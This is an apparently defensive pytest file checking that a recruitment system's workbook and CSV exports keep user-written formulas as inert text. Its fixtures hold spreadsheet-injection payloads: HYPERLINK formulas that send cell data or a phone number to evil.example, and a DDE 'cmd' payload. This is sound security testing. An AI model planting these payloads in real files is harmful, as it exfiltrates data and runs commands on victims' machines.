"""Formulas in every text that reaches a spreadsheet: they stay texts, in workbooks and in CSV."""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from openpyxl.cell import Cell

from api.house import House
from api.imports import import_file
from data.papers.plain import FORMULA_SIGNS
from tests.api.marked import ACTOR
from tests.api.outreach_office import phone_of
from tests.attacks.hostile_office import FAIR, PRINTS, XLSX, hostile_office, printed

FORMULAS = {
    "a link": '=HYPERLINK("http://evil.example/?"&A1,"注")',
    "a program": "+cmd|'/C calc'!A0注",
    "a wide sign": "＝1+注",
}


@pytest.fixture(params=FORMULAS.values(), ids=FORMULAS.keys())
def formula(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def client(house: House, formula: str) -> TestClient:
    return hostile_office(house, formula)


def cells_of(content: bytes) -> Iterator[Cell]:
    for sheet in openpyxl.load_workbook(BytesIO(content)):
        for row in sheet.iter_rows():
            yield from (cell for cell in row if isinstance(cell, Cell) and cell.value is not None)


def check_book(content: bytes, formula: str) -> None:
    """Assert that no cell runs what somebody wrote, and that it is there as it was written."""
    cells = list(cells_of(content))
    assert any(isinstance(cell.value, str) and formula in cell.value for cell in cells)
    assert not [cell for cell in cells if cell.hyperlink]
    own = ("=SUM(", "=IF(")
    assert not [cell.value for cell in cells if cell.data_type == "f" and not str(cell.value).startswith(own)]
    assert not [cell.value for cell in cells if cell.data_type == "f" and "注" in str(cell.value)]


def test_formulas_are_texts_in_every_workbook(client: TestClient, formula: str) -> None:
    for name in PRINTS:
        check_book(printed(client, name, accept=XLSX).content, formula)
    report = client.get("/v1/reports/openings", headers={"Accept": XLSX})
    check_book(report.content, formula)
    asked = {"purpose": "本人查询", "office": formula}
    check_book(client.get("/v1/candidates/C1/access-report", params=asked, headers={"Accept": XLSX}).content, formula)


COMMANDS = (
    ("rank", "--all"),
    ("report", "openings"),
    ("report", "ledger", "--purpose", "台账"),
    ("outreach", "plan", "--purpose", "联系"),
    ("outreach", "export", "--channel", "sms", "--purpose", "推送"),
    ("employers", "inspections"),
)


def test_formulas_stand_behind_an_apostrophe_in_csv(house: House, run: Callable[..., Any], tmp_path: Path) -> None:
    hostile_office(house, FORMULAS["a link"])
    for n, command in enumerate(COMMANDS):
        told = run(*command, "--out", f"{n}.csv")
        assert told.status == 0, told.errors
        with (tmp_path / f"{n}.csv").open(encoding="utf-8-sig", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert [cell for cell in cells if cell.startswith(FORMULA_SIGNS) and "注" in cell] == [], command
        assert any(cell.startswith("'=HYPERLINK") for cell in cells), command


@pytest.mark.parametrize("booth", ["A/1[x]:b*?\\", "'=1+1'", "长" * 90, "\u202e10"])
def test_a_booth_of_any_number_gets_a_sheet_of_its_own(house: House, booth: str) -> None:
    client = hostile_office(house, "注", booth=booth)
    book = openpyxl.load_workbook(BytesIO(printed(client, "employers", accept=XLSX).content))
    assert len(book.sheetnames) == 2
    assert all(name.startswith("展位") for name in book.sheetnames)
    assert any(booth in str(sheet.cell(1, 1).value) for sheet in book)
    assert booth in {one["id"] for one in client.get(FAIR).json()["booths"]}


def test_forgetting_somebody_makes_no_formula_of_what_another_wrote(house: House, tmp_path: Path) -> None:
    """A file of rejected rows is written anew where it holds somebody who is to be forgotten."""
    client = hostile_office(house, "注")
    file = tmp_path / "名单.csv"
    with file.open("w", encoding="utf-8", newline="") as stream:
        evil = f'=HYPERLINK("http://evil.example/{phone_of(1)}/2023","注")'
        csv.writer(stream).writerows([("姓名", "身份证号", "求职意向"), ("王小二", "12", evil)])
    kept = import_file(house, "candidates", file, actor=ACTOR, at=house.moment()).rejected_file
    assert kept is not None
    assert client.post("/v1/candidates/C1/forget").status_code == 200
    (cell,) = [cell for cell in cells_of(kept.read_bytes()) if "HYPERLINK" in str(cell.value)]
    assert (cell.data_type, phone_of(1) in str(cell.value)) == ("s", False)
